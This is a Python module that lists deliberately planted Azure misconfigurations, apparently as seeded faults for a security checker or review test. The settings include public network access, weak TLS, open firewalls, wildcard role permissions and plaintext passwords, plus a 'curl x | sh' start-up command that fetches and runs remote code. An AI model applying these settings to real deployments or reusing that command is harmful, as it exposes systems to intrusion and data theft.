"""Mistakes to plant: in which deployment, in which resource, at which path, and what.

The ones that reviewers planted, and others of their kind over every type that is deployed.
"""

from __future__ import annotations

from typing import NamedTuple

VAULT = "Microsoft.KeyVault/vaults"
KEY, SECRET = f"{VAULT}/keys", f"{VAULT}/secrets"
BUS = "Microsoft.ServiceBus/namespaces"
QUEUE = f"{BUS}/queues"
STORAGE = "Microsoft.Storage/storageAccounts"
BLOBS = f"{STORAGE}/blobServices"
CONTAINER = f"{BLOBS}/containers"
SITE, PLAN = "Microsoft.Web/sites", "Microsoft.Web/serverfarms"
PASSWORD = f"{SITE}/basicPublishingCredentialsPolicies"
COMPONENT = "Microsoft.Insights/components"
AUDIT = "Microsoft.Insights/diagnosticSettings"
ALERT = "Microsoft.Insights/metricAlerts"
WORKSPACE = "Microsoft.OperationalInsights/workspaces"
DATABASE = "Microsoft.DBforPostgreSQL/flexibleServers"
SETTING, RULE = f"{DATABASE}/configurations", f"{DATABASE}/firewallRules"
LEDGER = f"{DATABASE}/databases"
MACHINE = "Microsoft.Compute/virtualMachines"
COMMAND = f"{MACHINE}/runCommands"
NETWORK = "Microsoft.Network/virtualNetworks"
CARD, RULES = "Microsoft.Network/networkInterfaces", "Microsoft.Network/networkSecurityGroups"
ENDPOINT = "Microsoft.Network/privateEndpoints"
NAMES = f"{ENDPOINT}/privateDnsZoneGroups"
ZONE = "Microsoft.Network/privateDnsZones"
LINK = f"{ZONE}/virtualNetworkLinks"
IDENTITY = "Microsoft.ManagedIdentity/userAssignedIdentities"
GROUP = "Microsoft.Resources/resourceGroups"
ROLE, ASSIGNMENT = (
    "Microsoft.Authorization/roleDefinitions",
    "Microsoft.Authorization/roleAssignments",
)
EVENT_HUB = "/subscriptions/x/resourceGroups/x/providers/Microsoft.EventHub/namespaces/x"
ACCOUNT = "/subscriptions/x/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/x"


class Weakness(NamedTuple):
    """What is put where; None takes it away. `path` is one of the whole resource."""

    kind: str
    part: str
    path: str
    value: object
    deployment: str = "local"


P = "properties."
CONFIG = "properties.siteConfig."
STORING = "properties.functionAppConfig.deployment.storage."

WEAKNESSES: dict[str, Weakness] = {
    # Service Bus
    "messages that expire in a minute": Weakness(
        QUEUE, "/messages", P + "defaultMessageTimeToLive", "PT1M"
    ),
    "rejected that expires": Weakness(QUEUE, "/rejected", P + "defaultMessageTimeToLive", "P7D"),
    "expired messages are dropped": Weakness(
        QUEUE, "/messages", P + "deadLetteringOnMessageExpiration", False
    ),
    "expired messages may be dropped": Weakness(
        QUEUE, "/rejected", P + "deadLetteringOnMessageExpiration", None
    ),
    "a queue that is deleted when idle": Weakness(
        QUEUE, "/retries", P + "autoDeleteOnIdle", "PT5M"
    ),
    "a queue with sessions": Weakness(QUEUE, "/messages", P + "requiresSession", True),
    "a queue that only sends": Weakness(QUEUE, "/messages", P + "status", "ReceiveDisabled"),
    "a queue that is disabled": Weakness(QUEUE, "/receipts", P + "status", "Disabled"),
    "a small queue": Weakness(QUEUE, "/messages", P + "maxSizeInMegabytes", 1024),
    "a partitioned queue": Weakness(QUEUE, "/messages", P + "enablePartitioning", True),
    "an express queue": Weakness(QUEUE, "/messages", P + "enableExpress", True),
    "batched operations off": Weakness(QUEUE, "/messages", P + "enableBatchedOperations", False),
    "text about a queue": Weakness(QUEUE, "/messages", P + "userMetadata", "x"),
    "a smaller message": Weakness(QUEUE, "/messages", P + "maxMessageSizeInKilobytes", 1),
    "one delivery": Weakness(QUEUE, "/messages", P + "maxDeliveryCount", 1),
    "no number of deliveries": Weakness(QUEUE, "/messages", P + "maxDeliveryCount", None),
    "a short lock": Weakness(QUEUE, "/messages", P + "lockDuration", "PT5S"),
    "a lock that is not stated": Weakness(QUEUE, "/messages", P + "lockDuration", None),
    "no duplicate detection": Weakness(QUEUE, "/messages", P + "requiresDuplicateDetection", False),
    "a short window": Weakness(
        QUEUE, "/messages", P + "duplicateDetectionHistoryTimeWindow", "PT20S"
    ),
    "dead letters that stay": Weakness(
        QUEUE, "/messages", P + "forwardDeadLetteredMessagesTo", None
    ),
    "messages forwarded": Weakness(QUEUE, "/messages", P + "forwardTo", "rejected"),
    "shared keys of the bus": Weakness(BUS, "", P + "disableLocalAuth", False),
    "shared keys of the bus by default": Weakness(BUS, "", P + "disableLocalAuth", None),
    "an old TLS of the bus": Weakness(BUS, "", P + "minimumTlsVersion", "1.0"),
    "the bus encrypted by another key": Weakness(
        BUS, "", P + "encryption", {"keySource": "Microsoft.KeyVault"}
    ),
    "a bus with another name": Weakness(BUS, "", P + "alternateName", "other"),
    "a bus in zones": Weakness(BUS, "", P + "zoneRedundant", False),
    "a bus with an identity": Weakness(BUS, "", "identity.type", "SystemAssigned"),
    "a basic bus": Weakness(BUS, "", "sku.name", "Basic"),
    "more units": Weakness(BUS, "", "sku.capacity", 4, "local-private"),
    "a bus reached from everywhere": Weakness(
        BUS, "", P + "publicNetworkAccess", "Enabled", "local-private"
    ),
    # vaults
    "soft delete of a week": Weakness(VAULT, "payload", P + "softDeleteRetentionInDays", 7),
    "soft delete by default": Weakness(VAULT, "payload", P + "softDeleteRetentionInDays", None),
    "soft delete off": Weakness(VAULT, "payload", P + "enableSoftDelete", False),
    "purge protection off": Weakness(VAULT, "payload", P + "enablePurgeProtection", False),
    "purge protection unstated": Weakness(VAULT, "partner", P + "enablePurgeProtection", None),
    "a vault open to services": Weakness(
        VAULT, "payload", P + "networkAcls.bypass", "AzureServices"
    ),
    "a vault for deployments": Weakness(
        VAULT, "database", P + "enabledForTemplateDeployment", True
    ),
    "a vault for machines": Weakness(VAULT, "database", P + "enabledForDeployment", True),
    "a vault for disks": Weakness(VAULT, "payload", P + "enabledForDiskEncryption", True),
    "a vault that is recovered": Weakness(VAULT, "payload", P + "createMode", "recover"),
    "a vault of another tenant": Weakness(VAULT, "payload", P + "tenantId", "x"),
    "another mode": Weakness(VAULT, "payload", P + "enableRbacAuthorization", False),
    "no mode": Weakness(VAULT, "payload", P + "enableRbacAuthorization", None),
    "a policy in waiting": Weakness(
        VAULT,
        "payload",
        P + "accessPolicies",
        [{"tenantId": "x", "objectId": "x", "permissions": {"keys": ["all"]}}],
    ),
    "a policy with an application": Weakness(
        VAULT, "payload", P + "accessPolicies.0.applicationId", "x", "local-policies"
    ),
    "a policy for certificates": Weakness(
        VAULT,
        "payload",
        P + "accessPolicies.0.permissions.certificates",
        ["list"],
        "local-policies",
    ),
    "a policy for storage": Weakness(
        VAULT, "payload", P + "accessPolicies.0.permissions.storage", ["get"], "local-policies"
    ),
    "a policy of another tenant": Weakness(
        VAULT, "payload", P + "accessPolicies.0.tenantId", "x", "local-policies"
    ),
    "a vault reached from everywhere": Weakness(
        VAULT, "payload", P + "publicNetworkAccess", "Enabled", "local-private"
    ),
    "a vault with an open firewall": Weakness(
        VAULT, "payload", P + "networkAcls.defaultAction", "Allow", "local-private"
    ),
    "an address let in": Weakness(
        VAULT,
        "payload",
        P + "networkAcls.ipRules",
        [{"value": "203.0.113.4/32"}],
        "local-private",
    ),
    "a network let in": Weakness(
        VAULT, "payload", P + "networkAcls.virtualNetworkRules", [{"id": "/x"}], "local-private"
    ),
    "a key that is disabled": Weakness(KEY, "", P + "attributes.enabled", False),
    "a key for ever": Weakness(KEY, "", P + "attributes.exp", None),
    "a key until 2099": Weakness(KEY, "", P + "attributes.exp", 4102444799),
    "a key that begins later": Weakness(KEY, "", P + "attributes.nbf", 4000000000),
    "an exportable key": Weakness(KEY, "", P + "attributes.exportable", True),
    "a key that may be exportable": Weakness(KEY, "", P + "attributes.exportable", None),
    "a release policy": Weakness(KEY, "", P + "release_policy", {"data": "x"}),
    "a key of a curve": Weakness(KEY, "", P + "kty", "EC"),
    "a curve": Weakness(KEY, "", P + "curveName", "P-256"),
    "a small key": Weakness(KEY, "", P + "keySize", 2048),
    "a key that signs": Weakness(KEY, "", P + "keyOps", ["encrypt", "decrypt", "sign"]),
    "a key that does everything": Weakness(KEY, "", P + "keyOps", None),
    "rotation after ten years": Weakness(
        KEY, "", P + "rotationPolicy.lifetimeActions.0.trigger.timeAfterCreate", "P10Y"
    ),
    "no rotation": Weakness(KEY, "", P + "rotationPolicy.lifetimeActions.0.action.type", "notify"),
    "versions for ten years": Weakness(KEY, "", P + "rotationPolicy.attributes.expiryTime", "P10Y"),
    "no notification of the end": Weakness(KEY, "", P + "rotationPolicy.lifetimeActions.1", None),
    "a secret until 2099": Weakness(SECRET, "partner", P + "attributes.exp", 4102444799),
    "a secret for ever": Weakness(SECRET, "partner", P + "attributes.exp", None),
    "a secret that is disabled": Weakness(SECRET, "partner", P + "attributes.enabled", False),
    "a secret in the open": Weakness(SECRET, "database-c", P + "value", "postgresql://a:b@c/d"),
    "another placeholder": Weakness(SECRET, "partner", P + "value", '{"kind": "unset"}'),
    "a secret of no type": Weakness(SECRET, "partner", P + "contentType", None),
    "a secret that seems set": Weakness(SECRET, "partner", "tags.relay", None),
    # storage
    "storage keys": Weakness(STORAGE, "sender", P + "allowSharedKeyAccess", True),
    "storage keys by default": Weakness(STORAGE, "sender", P + "allowSharedKeyAccess", None),
    "public blobs": Weakness(STORAGE, "sender", P + "allowBlobPublicAccess", True),
    "storage without TLS": Weakness(STORAGE, "sender", P + "supportsHttpsTrafficOnly", False),
    "an old TLS of storage": Weakness(STORAGE, "sender", P + "minimumTlsVersion", "TLS1_0"),
    "SFTP": Weakness(STORAGE, "sender", P + "isSftpEnabled", True),
    "NFS": Weakness(STORAGE, "sender", P + "isNfsV3Enabled", True),
    "a hierarchy": Weakness(STORAGE, "sender", P + "isHnsEnabled", True),
    "local users": Weakness(STORAGE, "sender", P + "isLocalUserEnabled", True),
    "copies to another tenant": Weakness(
        STORAGE, "sender", P + "allowCrossTenantReplication", True
    ),
    "copies from anywhere": Weakness(STORAGE, "sender", P + "allowedCopyScope", "AAD"),
    "the portal by key": Weakness(STORAGE, "sender", P + "defaultToOAuthAuthentication", False),
    "signatures for ever": Weakness(
        STORAGE, "sender", P + "sasPolicy", {"sasExpirationPeriod": "9999.0:0:0"}
    ),
    "keys for ever": Weakness(STORAGE, "sender", P + "keyPolicy.keyExpirationPeriodInDays", 9999),
    "a domain": Weakness(STORAGE, "sender", P + "customDomain.name", "x.example"),
    "storage open to services": Weakness(
        STORAGE, "sender", P + "networkAcls.bypass", "AzureServices"
    ),
    "storage for another resource": Weakness(
        STORAGE, "sender", P + "networkAcls.resourceAccessRules", [{"resourceId": "*"}]
    ),
    "storage for an address": Weakness(
        STORAGE, "sender", P + "networkAcls.ipRules", [{"value": "0.0.0.0/0"}], "local-private"
    ),
    "storage with an open firewall": Weakness(
        STORAGE, "sender", P + "networkAcls.defaultAction", "Allow", "local-private"
    ),
    "storage reached from everywhere": Weakness(
        STORAGE, "sender", P + "publicNetworkAccess", "Enabled", "local-private"
    ),
    "storage copied": Weakness(STORAGE, "sender", "sku.name", "Standard_RAGRS"),
    "CORS of blobs": Weakness(BLOBS, "sender", P + "cors.corsRules", [{"allowedOrigins": ["*"]}]),
    "a static site": Weakness(BLOBS, "sender", P + "staticWebsite.enabled", True),
    "a feed of changes": Weakness(BLOBS, "sender", P + "changeFeed.enabled", True),
    "a public container": Weakness(CONTAINER, "sender", P + "publicAccess", "Blob"),
    "a container that may be public": Weakness(CONTAINER, "sender", P + "publicAccess", None),
    "text about a container": Weakness(CONTAINER, "sender", P + "metadata.owner", "x"),
    # apps
    "CORS of an app": Weakness(SITE, "sender", CONFIG + "cors.allowedOrigins", ["*"]),
    "CORS with credentials": Weakness(SITE, "sender", CONFIG + "cors.supportCredentials", True),
    "SSH": Weakness(SITE, "sender", P + "sshEnabled", True),
    "plain HTTP": Weakness(SITE, "sender", P + "httpsOnly", False),
    "an old TLS of an app": Weakness(SITE, "sender", CONFIG + "minTlsVersion", "1.0"),
    "an old TLS of publishing": Weakness(SITE, "sender", CONFIG + "scmMinTlsVersion", "1.0"),
    "a debugger": Weakness(SITE, "sender", CONFIG + "remoteDebuggingEnabled", True),
    "FTP": Weakness(SITE, "sender", CONFIG + "ftpsState", "AllAllowed"),
    "a web socket": Weakness(SITE, "sender", CONFIG + "webSocketsEnabled", True),
    "logs of requests": Weakness(SITE, "sender", CONFIG + "httpLoggingEnabled", True),
    "detailed errors": Weakness(SITE, "sender", CONFIG + "detailedErrorLoggingEnabled", True),
    "publishing by the same rules": Weakness(
        SITE, "sender", CONFIG + "scmIpSecurityRestrictionsUseMain", False
    ),
    "an address that publishes": Weakness(
        SITE, "sender", CONFIG + "scmIpSecurityRestrictions", [{"ipAddress": "Any"}]
    ),
    "a connection string": Weakness(
        SITE, "sender", CONFIG + "connectionStrings", [{"name": "x", "connectionString": "y"}]
    ),
    "a start-up command": Weakness(SITE, "sender", CONFIG + "appCommandLine", "curl x | sh"),
    "client certificates": Weakness(SITE, "sender", P + "clientCertMode", "Optional"),
    "an app that is off": Weakness(SITE, "sender", P + "enabled", False),
    "secrets under another identity": Weakness(
        SITE, "sender", P + "keyVaultReferenceIdentity", "/x"
    ),
    "another host name": Weakness(SITE, "sender", P + "hostNameSslStates", [{"name": "x"}]),
    "an app's own domain": Weakness(SITE, "sender", P + "publicNetworkAccess", "Disabled"),
    "an app outside": Weakness(SITE, "sender", P + "virtualNetworkSubnetId", None, "local-private"),
    "traffic past the network": Weakness(
        SITE, "sender", P + "outboundVnetRouting.allTraffic", False, "local-private"
    ),
    "another plan": Weakness(SITE, "sender", P + "serverFarmId", "/x"),
    "the package of another": Weakness(SITE, "sender", STORING + "value", "https://x.example/p"),
    "a package by key": Weakness(
        SITE, "sender", STORING + "authentication.type", "StorageAccountConnectionString"
    ),
    "the key of a package": Weakness(
        SITE, "sender", STORING + "authentication.storageAccountConnectionStringName", "X"
    ),
    "another Python": Weakness(SITE, "sender", P + "functionAppConfig.runtime.version", "3.10"),
    "a setting of a slot": Weakness(SITE, "sender", CONFIG + "appSettings.0.slotSetting", True),
    "more instances": Weakness(
        SITE,
        "sender",
        P + "functionAppConfig.scaleAndConcurrency.maximumInstanceCount",
        1000,
    ),
    "more requests at once": Weakness(
        SITE,
        "sender",
        P + "functionAppConfig.scaleAndConcurrency.triggers.http.perInstanceConcurrency",
        1000,
    ),
    "a password for publishing": Weakness(PASSWORD, "sender-local/scm", P + "allow", True),
    "a password for FTP": Weakness(PASSWORD, "sender-local/ftp", P + "allow", None),
    "another plan's size": Weakness(PLAN, "sender", "sku.name", "Y1"),
    "a plan in zones": Weakness(PLAN, "sender", P + "zoneRedundant", True),
    # telemetry
    "an audit log copied to storage": Weakness(AUDIT, "payload", P + "storageAccountId", ACCOUNT),
    "an audit log copied to a hub": Weakness(
        AUDIT, "payload", P + "eventHubAuthorizationRuleId", EVENT_HUB
    ),
    "an audit log elsewhere": Weakness(AUDIT, "payload", P + "workspaceId", "/x"),
    "an audit log of a partner": Weakness(AUDIT, "payload", P + "marketplacePartnerId", "/x"),
    "no audit": Weakness(AUDIT, "payload", P + "logs", []),
    "an audit that is off": Weakness(AUDIT, "payload", P + "logs.0.enabled", False),
    "another log": Weakness(AUDIT, "payload", P + "logs.0.categoryGroup", "allLogs"),
    "telemetry from anybody": Weakness(COMPONENT, "", P + "DisableLocalAuth", False),
    "telemetry elsewhere": Weakness(COMPONENT, "", P + "WorkspaceResourceId", "/x"),
    "addresses of callers": Weakness(COMPONENT, "", P + "DisableIpMasking", True),
    "a part of the telemetry": Weakness(COMPONENT, "", P + "SamplingPercentage", 1),
    "telemetry from everywhere": Weakness(
        COMPONENT, "", P + "publicNetworkAccessForQuery", "Enabled"
    ),
    "logs by shared key": Weakness(WORKSPACE, "", P + "features.disableLocalAuth", False),
    "logs for a month": Weakness(WORKSPACE, "", P + "retentionInDays", 30),
    "logs exported": Weakness(WORKSPACE, "", P + "features.enableDataExport", True),
    "logs up to a cap": Weakness(WORKSPACE, "", P + "workspaceCapping.dailyQuotaGb", 0.1),
    "logs for whoever has the resource": Weakness(
        WORKSPACE, "", P + "features.enableLogAccessUsingOnlyResourcePermissions", True
    ),
    "an alert that is off": Weakness(ALERT, "", P + "enabled", False),
    "an alert on another disk": Weakness(ALERT, "", P + "scopes", ["/x"]),
    "an alert that is late": Weakness(ALERT, "", P + "criteria.allOf.0.threshold", 99),
    "an alert upside down": Weakness(ALERT, "", P + "criteria.allOf.0.operator", "LessThan"),
    "an alert on something else": Weakness(
        ALERT, "", P + "criteria.allOf.0.metricName", "cpu_percent"
    ),
    "an alert that calls": Weakness(ALERT, "", P + "actions", [{"actionGroupId": "/x"}]),
    # database
    "a statement log": Weakness(SETTING, "ssl_min", "name", "relay-local/log_statement"),
    "TLS not demanded": Weakness(SETTING, "require_secure", P + "value", "OFF"),
    "an old TLS of the database": Weakness(SETTING, "ssl_min", P + "value", "TLSv1"),
    "the directory signs in": Weakness(
        DATABASE, "", P + "authConfig.activeDirectoryAuth", "Enabled"
    ),
    "no password": Weakness(DATABASE, "", P + "authConfig.passwordAuth", "Disabled"),
    "another tenant signs in": Weakness(DATABASE, "", P + "authConfig.tenantId", "x"),
    "a password in the open": Weakness(
        DATABASE, "", P + "administratorLoginPassword", "hunter2hunter2"
    ),
    "an administrator": Weakness(DATABASE, "", P + "administratorLogin", "postgres"),
    "a disk that grows": Weakness(DATABASE, "", P + "storage.autoGrow", "Enabled"),
    "a small disk": Weakness(DATABASE, "", P + "storage.storageSizeGB", 16),
    "backups for less": Weakness(DATABASE, "", P + "backup.backupRetentionDays", 1),
    "backups elsewhere": Weakness(DATABASE, "", P + "backup.geoRedundantBackup", "Enabled"),
    "a database restored": Weakness(DATABASE, "", P + "createMode", "PointInTimeRestore"),
    "a database copied from": Weakness(DATABASE, "", P + "sourceServerResourceId", "/x"),
    "a database encrypted by another": Weakness(
        DATABASE, "", P + "dataEncryption.type", "AzureKeyVault"
    ),
    "a database by a subnet": Weakness(DATABASE, "", P + "network.delegatedSubnetResourceId", "/x"),
    "a database reached from everywhere": Weakness(
        DATABASE, "", P + "network.publicNetworkAccess", "Enabled", "local-private"
    ),
    "an old database": Weakness(DATABASE, "", P + "version", "11"),
    "a database for every address": Weakness(RULE, "", P + "endIpAddress", "255.255.255.255"),
    "another order of texts": Weakness(LEDGER, "", P + "collation", "C"),
    # machines
    "a password on a machine": Weakness(
        MACHINE,
        "reader",
        P + "osProfile.linuxConfiguration.disablePasswordAuthentication",
        False,
        "machines",
    ),
    "the password of a machine": Weakness(
        MACHINE, "reader", P + "osProfile.adminPassword", "hunter2", "machines"
    ),
    "the key of somebody": Weakness(
        MACHINE,
        "reader",
        P + "osProfile.linuxConfiguration.ssh.publicKeys.0.keyData",
        "ssh-rsa AAAA somebody",
        "machines",
    ),
    "custom data": Weakness(
        MACHINE, "reader", P + "osProfile.customData", "I2Nsb3VkLWNvbmZpZw==", "machines"
    ),
    "user data": Weakness(MACHINE, "reader", P + "userData", "I2Nsb3VkLWNvbmZpZw==", "machines"),
    "unsigned code": Weakness(
        MACHINE,
        "reader",
        P + "securityProfile.uefiSettings.secureBootEnabled",
        False,
        "machines",
    ),
    "a disk in the clear": Weakness(
        MACHINE, "reader", P + "securityProfile.encryptionAtHost", False, "machines"
    ),
    "another image": Weakness(
        MACHINE, "reader", P + "storageProfile.imageReference.id", "/x", "machines"
    ),
    "another disk": Weakness(
        MACHINE, "reader", P + "storageProfile.dataDisks", [{"lun": 0}], "machines"
    ),
    "no updates": Weakness(
        MACHINE,
        "reader",
        P + "osProfile.linuxConfiguration.patchSettings.patchMode",
        "ImageDefault",
        "machines",
    ),
    "another script": Weakness(COMMAND, "reader", P + "source.script", "id", "machines"),
    "a script from elsewhere": Weakness(
        COMMAND, "reader", P + "source.scriptUri", "https://x.example/s", "machines"
    ),
    "a parameter that is hidden": Weakness(
        COMMAND, "reader", P + "protectedParameters", [{"name": "X", "value": "y"}], "machines"
    ),
    "output elsewhere": Weakness(
        COMMAND, "reader", P + "outputBlobUri", "https://x.example/o", "machines"
    ),
    "a script as somebody": Weakness(COMMAND, "reader", P + "runAsUser", "root", "machines"),
    "a public address": Weakness(
        CARD,
        "reader",
        P + "ipConfigurations.0.properties.publicIPAddress",
        {"id": "/x"},
        "machines",
    ),
    "a card that forwards": Weakness(CARD, "reader", P + "enableIPForwarding", True, "machines"),
    "another subnet": Weakness(
        CARD, "reader", P + "ipConfigurations.0.properties.subnet.id", "/x", "machines"
    ),
    "a rule that lets in": Weakness(
        RULES, "", P + "securityRules.0.properties.access", "Allow", "machines"
    ),
    "a rule that lets more out": Weakness(
        RULES, "", P + "securityRules.1.properties.destinationPortRanges", ["*"], "machines"
    ),
    "no last rule": Weakness(RULES, "", P + "securityRules.3", None, "machines"),
    "a subnet without rules": Weakness(
        NETWORK, "machines", P + "subnets.0.properties.networkSecurityGroup", None, "machines"
    ),
    # the private network
    "an endpoint to another part": Weakness(
        ENDPOINT,
        "storage-sender",
        P + "privateLinkServiceConnections.0.properties.groupIds",
        ["file"],
        "local-private",
    ),
    "an endpoint to another resource": Weakness(
        ENDPOINT,
        "bus",
        P + "privateLinkServiceConnections.0.properties.privateLinkServiceId",
        "/x",
        "local-private",
    ),
    "an endpoint in another subnet": Weakness(
        ENDPOINT, "bus", P + "subnet.id", "/x", "local-private"
    ),
    "an endpoint that asks first": Weakness(
        ENDPOINT, "bus", P + "manualPrivateLinkServiceConnections", [{"name": "x"}], "local-private"
    ),
    "names in another zone": Weakness(
        NAMES,
        "bus",
        P + "privateDnsZoneConfigs.0.properties.privateDnsZoneId",
        "/x",
        "local-private",
    ),
    "a zone for another network": Weakness(
        LINK, "servicebus", P + "virtualNetwork.id", "/x", "local-private"
    ),
    "machines write names": Weakness(
        LINK, "servicebus", P + "registrationEnabled", True, "local-private"
    ),
    "names found elsewhere": Weakness(
        LINK, "servicebus", P + "resolutionPolicy", "NxDomainRedirect", "local-private"
    ),
    "a subnet for others": Weakness(
        NETWORK, "relay", P + "subnets.0.properties.delegations", [], "local-private"
    ),
    "servers of names": Weakness(
        NETWORK, "relay", P + "dhcpOptions.dnsServers", ["203.0.113.4"], "local-private"
    ),
    "a wide network": Weakness(
        NETWORK, "relay", P + "addressSpace.addressPrefixes", ["10.0.0.0/8"], "local-private"
    ),
    "endpoints that start connections": Weakness(
        NETWORK, "relay", P + "subnets.1.properties.defaultOutboundAccess", True, "local-private"
    ),
    # identities, roles and the group
    "a role to hand on": Weakness(ROLE, "", P + "assignableScopes", ["/subscriptions/x"]),
    "a role for everything": Weakness(ROLE, "", P + "permissions", [{"actions": ["*"]}]),
    "a role with an exception": Weakness(ROLE, "", P + "permissions.0.notActions", ["x"]),
    "a built-in role": Weakness(ROLE, "", P + "type", "BuiltInRole"),
    "a role under a condition": Weakness(ASSIGNMENT, "", P + "condition", "@Resource[x]"),
    "a role for a user": Weakness(ASSIGNMENT, "", P + "principalType", "User"),
    "a role through another identity": Weakness(
        ASSIGNMENT, "", P + "delegatedManagedIdentityResourceId", "/x"
    ),
    "an identity of somebody": Weakness(IDENTITY, "decrypt", "tags.azd-env-name", "other"),
    "an identity of one region": Weakness(IDENTITY, "decrypt", P + "isolationScope", "Regional"),
    "a group that others manage": Weakness(GROUP, "", "managedBy", "/x"),
    "a group elsewhere": Weakness(GROUP, "", "location", "eastus"),
    "a plan of the market place": Weakness(MACHINE, "reader", "plan.name", "x", "machines"),
    "a place beyond the region": Weakness(
        VAULT, "payload", "extendedLocation", {"name": "x", "type": "EdgeZone"}
    ),
    "an older API": Weakness(VAULT, "payload", "apiVersion", "2015-06-01"),
    "the tag of another app": Weakness(SITE, "sender", "tags.azd-service-name", "receiver"),
}
"""By what it comes to."""
